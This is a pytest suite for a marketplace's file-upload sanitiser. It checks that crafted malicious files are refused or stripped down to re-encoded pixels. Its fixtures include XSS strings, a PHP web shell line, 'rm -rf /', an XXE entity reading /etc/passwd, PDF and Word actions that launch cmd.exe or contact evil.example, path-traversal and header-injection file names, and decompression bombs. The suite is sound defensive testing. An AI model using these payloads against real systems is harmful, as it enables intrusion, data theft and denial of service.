"""Files made to do harm: each is refused with a reason in words, or kept encoded anew, and none as it came."""

import gzip
import io
import random
import struct
import tarfile
import zlib

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from marketplace.core.files import vault
from marketplace.core.files.kinds import Refused
from suppliers.files import actions
from suppliers.files.models import Document, Picture
from tests.suppliers.files.samples import (
    DOCX_TYPES,
    archive,
    docx,
    encoded,
    image,
    odt,
    packed,
    pdf,
    photograph,
    png_chunk,
    png_of,
    xlsx,
)

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PNG, JPEG, GIF = encoded(image(), "PNG"), encoded(image(), "JPEG"), encoded(image(), "GIF")
RELATION = (
    '<Relationships><Relationship Id="1" Type="http://x/{kind}" Target="http://evil.example/" {mode}/></Relationships>'
)
RUN = b"/S/JavaScript/JS(app.alert\\(1\\))"


def lying_docx():
    """Its table claims a small part; what is packed is large."""
    made = bytearray(docx(word__media_x_bin="A" * 3_000_000))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = made.rfind(mark)
        made[at + offset : at + offset + 4] = struct.pack("<I", 10)
    return bytes(made)


def tar_of(content):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as made:
        entry = tarfile.TarInfo("../../etc/passwd")
        entry.size = len(content)
        made.addfile(entry, io.BytesIO(content))
    return file.getvalue()


def locked_docx():
    made = bytearray(docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = made.find(mark)
        made[at + offset] |= 1
    return bytes(made)


def png_with(*chunks):
    return PNG[:33] + b"".join(png_chunk(name, data) for name, data in chunks) + PNG[33:]


def heic_of(width, height):
    """A HEIC whose header claims an extent."""
    made = bytearray(encoded(image(), "HEIF"))
    at = made.find(b"ispe")
    made[at + 8 : at + 16] = struct.pack(">II", width, height)
    return bytes(made)


def gif_of(width, height):
    return GIF[:6] + struct.pack("<HH", width, height) + GIF[10:]


def jpeg_of(width, height):
    at = JPEG.find(b"\xff\xc0")
    return JPEG[: at + 5] + struct.pack(">HH", height, width) + JPEG[at + 9 :]


REFUSED = {
    # Pages and programs under other names
    "SVG with a script": ("logo.svg", SVG),
    "SVG as PNG": ("logo.png", SVG),
    "SVG after a declaration": ("logo.svg", b'<?xml version="1.0"?>\n<!-- x -->\n' + SVG),
    "SVG in UTF-16": ("logo.svg", SVG.decode().encode("utf-16")),
    "packed SVG": ("logo.svgz", gzip.compress(SVG)),
    "HTML as PDF": ("policy.pdf", b"<!doctype html><html>" + SCRIPT),
    "HTML as PNG": ("policy.png", b"<html><body>" + SCRIPT),
    "HTML with a mark of order": ("policy.pdf", b"\xef\xbb\xbf<html>" + SCRIPT),
    "script before anything": ("policy.pdf", b"   \n" + SCRIPT),
    "XML with an entity": (
        "policy.pdf",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "PHP as JPEG": ("photo.jpg", b"<?php system($_GET['c']); ?>"),
    "shell script": ("policy.pdf", b"#!/bin/sh\nrm -rf /"),
    "Windows program": ("policy.pdf", b"MZ" + b"\x00" * 200),
    "Linux program": ("policy.pdf", b"\x7fELF" + b"\x00" * 200),
    "JavaScript": ("policy.js", b"alert(1)"),
    "nothing": ("policy.pdf", b""),
    "zeros": ("policy.pdf", b"\x00" * 5000),
    "noise": ("policy.pdf", random.Random(4711).randbytes(5000)),
    # Names
    "PDF called a program": ("policy.exe", pdf()),
    "PDF called a page": ("policy.html", pdf()),
    "PNG called a PDF": ("scan.pdf", PNG),
    "PDF called a picture": ("scan.png", pdf()),
    "Word called Excel": ("list.xlsx", docx()),
    # PDFs that act, hide or are something else too
    "PDF with a script": ("a.pdf", pdf(catalog=b"/OpenAction<<" + RUN + b">>")),
    "PDF with an escaped script": ("a.pdf", pdf(catalog=b"/OpenAction<</S/J#61vaScr#69pt/JS(1)>>")),
    "PDF with a packed script": ("a.pdf", pdf(extra=packed(b"9 0 <<" + RUN + b">>"))),
    "PDF with an escaped packed script": ("a.pdf", pdf(extra=packed(b"9 0 <</S/#4A#61vaScript/JS(1)>>"))),
    "PDF with a script in a part of no kind": ("a.pdf", pdf(extra=packed(b"9 0 <<" + RUN, b"/Filter/FlateDecode"))),
    "PDF with a part packed otherwise": (
        "a.pdf",
        pdf(extra=packed(b"x", b"/Type/ObjStm/N 1/First 4/Filter[/ASCII85Decode/FlateDecode]")),
    ),
    "PDF that starts a program": ("a.pdf", pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    "PDF with a file in it": ("a.pdf", pdf(catalog=b"/Names<</EmbeddedFiles 9 0 R>>")),
    "PDF form that sends itself": ("a.pdf", pdf(catalog=b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
    "PDF with a password": ("a.pdf", pdf(extra=b"trailer<</Encrypt 8 0 R>>\n")),
    "PDF cut off": ("a.pdf", pdf()[:-40]),
    "PDF and archive": ("a.pdf", pdf() + archive({"evil.html": SCRIPT})),
    "PDF and page": ("a.pdf", pdf(version=b"1.4\n<html>" + SCRIPT)),
    "PDF with a late beginning": ("a.pdf", SCRIPT + pdf()),
    "PDF that unpacks to a flood": (
        "a.pdf",
        pdf(extra=packed(b"\x00" * 90_000_000, b"/Filter/FlateDecode") * 5),
    ),
    # Office files and archives
    "archive": ("a.zip", archive({"a.txt": "x"})),
    "archive as Word": ("a.docx", archive({"evil.html": SCRIPT})),
    "Java archive": ("a.docx", archive({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})),
    "tar": ("a.tar", tar_of(b"root")),
    "Word with a macro": ("a.docx", docx(word__vbaProject_x_bin=b"\xd0\xcf\x11\xe0")),
    "Word of the macro kind": ("a.docx", docx(types=DOCX_TYPES.replace("main+xml", "main+xml macroEnabled"))),
    "Word with a file in it": ("a.docx", docx(word__embeddings__oleObject1_x_bin="x")),
    "Word that fetches its template": (
        "a.docx",
        docx(word___rels__settings_x_xml_x_rels=RELATION.format(kind="attachedTemplate", mode='TargetMode="External"')),
    ),
    "Word with a command in a field": ("a.docx", docx(body="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
    "Word with entities": ("a.docx", docx(body='<!DOCTYPE a [<!ENTITY b "bbbb">]><w:document>&b;</w:document>')),
    "Word with a password": ("a.docx", locked_docx()),
    "Word with a part outside": ("a.docx", archive({"[Content_Types].xml": DOCX_TYPES, "../../evil": "x"})),
    "Word behind a page": ("a.docx", SCRIPT + docx()),
    "Word with a program in its comment": ("a.docx", docx(comment=SCRIPT)),
    "Word cut off": ("a.docx", docx()[:-30]),
    "Word that claims to be small": ("a.docx", lying_docx()),
    "bomb in a Word document": ("a.docx", docx(word__media__a_x_xml="A" * 60_000_000)),
    "bomb of many parts": ("a.docx", docx(**{f"part{number}": "" for number in range(3_100)})),
    "Excel with links to other files": ("a.xlsx", xlsx(xl__externalLinks__externalLink1_x_xml="<x/>")),
    "Excel with a macro sheet": ("a.xlsx", xlsx(xl__macrosheets__sheet1_x_xml="<x/>")),
    "OpenDocument with a macro": ("a.odt", odt(Basic__Standard__Module1_x_xml="<x/>")),
    "OpenDocument with a listener": ("a.odt", odt(styles_x_xml="<script:event-listener/>")),
    "OpenDocument with a password": ("a.odt", odt(**{"META-INF__manifest_x_xml": "<manifest:encryption-data/>"})),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600),
    # Pictures that flood or break a decoder
    "30000 x 30000 PNG": ("a.png", png_of(30_000, 30_000)),
    "30000 x 30000 PNG with all its rows": ("a.png", png_of(30_000, 30_000, rows=3_000)),
    "PNG that claims 2^31": ("a.png", png_of(2**31 - 1, 2**31 - 1, rows=0)),
    "PNG of no extent": ("a.png", png_of(0, 0, rows=0)),
    "65535 x 65535 GIF": ("a.gif", gif_of(65_535, 65_535)),
    "65535 x 65535 JPEG": ("a.jpg", jpeg_of(65_535, 65_535)),
    "HEIC that claims 60000 x 60000": ("a.heic", heic_of(60_000, 60_000)),
    "PNG cut off": ("a.png", encoded(image((400, 400)).effect_spread(9), "PNG")[:200]),
    "JPEG cut off": ("a.jpg", encoded(image((400, 400)), "JPEG")[:700]),
    "JPEG of a beginning alone": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 50),
    "WebP of a beginning alone": ("a.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 16),
    "AVIF of a beginning alone": ("a.avif", b"\x00\x00\x00\x18ftypavif" + b"\x00" * 40),
    "PNG with a text that unpacks to a flood": (
        "a.png",
        png_with((b"zTXt", b"a\x00\x00" + zlib.compress(b"A" * 80_000_000))),
    ),
}

#: Kept, but only as what was decoded from them.
ENCODED_ANEW = {
    "JPEG with a place": ("IMG_0001.jpg", photograph()),
    "HEIC with a place": ("IMG_0002.heic", photograph("HEIF")),
    "WebP with a place": ("a.webp", photograph("WEBP")),
    "AVIF with a place": ("a.avif", photograph("AVIF")),
    "PNG with a place": ("a.png", photograph("PNG")),
    "PNG and page": ("a.png", png_with((b"tEXt", b"Comment\x00" + SCRIPT))),
    "PNG and archive": ("a.png", PNG + archive({"evil.html": SCRIPT})),
    "JPEG and PHP": ("a.jpg", JPEG[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT + JPEG[2:]),
    "JPEG and page behind it": ("a.jpg", JPEG + SCRIPT),
    "GIF and program": ("a.gif", GIF + b"/*" + SCRIPT + b"*/"),
    "HEIC called JPEG": ("a.jpg", encoded(image(), "HEIF")),
    "path in the name": ("../../../etc/cron.d/a.png", PNG),
    "Windows path in the name": ("..\\..\\boot\\a.png", PNG),
    "name with a null byte": ("a.php\x00.png", PNG),
    "name that reads backwards": ("a\u202egnp.exe.png", PNG),
    "name of 3000 letters": ("a" * 3_000 + ".png", PNG),
    "name with a header in it": ('a"\r\nX-Evil: 1\r\n.png', PNG),
    "broken colour profile": ("a.jpg", encoded(image(), "JPEG", icc_profile=b"not a profile" * 20)),
}


def keep(add, supplier, name, content, **words):
    uploaded = SimpleUploadedFile("x", content)
    uploaded._name = name  # as it stands in the request; Django itself has cut it already
    with vault.received(uploaded) as received:
        return add(supplier, received, **words)


def test_there_are_at_least_sixty_of_them():
    assert len(REFUSED) + len(ENCODED_ANEW) >= 60


@pytest.mark.parametrize("name", REFUSED)
def test_as_a_document_it_is_refused_with_a_reason(name, atlas, omar, kept):
    called, content = REFUSED[name]

    with pytest.raises(Refused) as refusal:
        keep(actions.add_document, atlas, called, content, kind="other", audience="private", by=omar)

    assert len(str(refusal.value)) > 15
    assert not Document.objects.exists()
    assert kept() == []


@pytest.mark.parametrize("name", REFUSED)
def test_as_a_picture_it_is_refused_with_a_reason(name, atlas, omar, kept):
    called, content = REFUSED[name]
    if name == "PNG called a PDF":
        called = "scan.html"

    with pytest.raises(Refused) as refusal:
        keep(actions.add_picture, atlas, called, content, role="picture", by=omar)

    assert len(str(refusal.value)) > 15
    assert not Picture.objects.exists()
    assert kept() == []


@pytest.mark.parametrize("name", ENCODED_ANEW)
def test_as_a_picture_it_is_kept_without_anything_but_its_pixels(name, atlas, omar, kept):
    called, content = ENCODED_ANEW[name]

    keep(actions.add_picture, atlas, called, content, role="picture", by=omar)

    assert len(kept()) == 3
    for stored in kept():
        assert_is_clean(stored, "WEBP")


@pytest.mark.parametrize("name", ENCODED_ANEW)
def test_as_a_document_it_is_kept_without_anything_but_its_pixels(name, atlas, omar, kept):
    called, content = ENCODED_ANEW[name]

    document = keep(actions.add_document, atlas, called, content, kind="other", audience="private", by=omar)

    assert kept() == [document.stored_as]
    assert document.media_type == "image/jpeg"
    assert_is_clean(document.stored_as, "JPEG")
    assert not set("/\\\x00\r\n\u202e") & set(document.original_name + document.title)


def assert_is_clean(name, kind):
    assert ".." not in name
    with default_storage.open(name) as file:
        content = file.read()
    for trace in (b"alert(", b"evil", b"Secret", b"Exif", b"GPS", b"PK\x03\x04", b"<script"):
        assert trace not in content
    with Image.open(io.BytesIO(content)) as picture:
        assert picture.format == kind
        assert not dict(picture.getexif())
        assert not {"exif", "xmp", "comment", "icc_profile"} & picture.info.keys()
        picture.load()


def test_a_file_that_looks_hostile_but_is_not_is_kept(atlas, omar, kept):
    relation = RELATION.format(kind="relationships/hyperlink", mode='TargetMode="External"')
    fine = {
        "plain.pdf": pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        "packed.pdf": pdf(extra=packed(b"9 0 <</Type/Annot/A<</S/URI/URI(https://atlas.example)>>>>")),
        "link.docx": docx(word___rels__document_x_xml_x_rels=relation),
        "sheet.xlsx": xlsx(xl__printerSettings__printerSettings1_x_bin=b"\x00\x01"),
        "text.odt": odt(),
        "no ending": pdf(catalog=b"/Lang(en)"),
    }

    for name, content in fine.items():
        keep(actions.add_document, atlas, name, content, kind="other", audience="private", by=omar)

    assert len(kept()) == len(fine)
